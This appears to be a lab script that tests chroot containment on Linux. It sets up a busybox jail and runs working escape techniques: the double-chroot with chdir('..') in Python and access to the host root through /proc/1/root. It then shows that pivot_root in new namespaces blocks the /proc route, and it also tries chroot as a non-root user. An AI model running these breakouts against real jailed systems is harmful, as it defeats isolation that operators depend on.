# chroot: out of a chroot by a second one, by a directory left open, by /proc of the first process; and not after pivot_root
mkdir -p /srv/j/{bin,proc,d}; cp /bin/busybox /srv/j/bin; for a in sh ls chroot mkdir; do ln -s busybox /srv/j/bin/$a; done
chroot /srv/j /bin/sh -c 'cd ..; cd ../..; pwd; ls /; ls ../..'
python3 -c '
import os
os.chroot("/srv/j"); os.chdir("/"); os.mkdir("esc"); os.chroot("esc")
for i in range(9): os.chdir("..")
os.chroot("."); print(sorted(os.listdir("/"))[:2], os.getcwd())'
mount -t proc p /srv/j/proc; chroot /srv/j /bin/busybox chroot /proc/1/root /bin/ls -d /etc/passwd; umount /srv/j/proc
unshare -m -p -f sh -c 'mount --bind /srv/j /srv/j; cd /srv/j; mount -t proc p proc; mkdir -p old; pivot_root . old; umount -l old; exec /bin/sh -c "ls /; /bin/busybox chroot /proc/1/root /bin/ls /; mkdir -p e; chroot e /bin/sh; cd ..; ls"'
su user -c 'chroot /srv/j /bin/sh'; su user -c 'unshare -r chroot /srv/j /bin/busybox id'
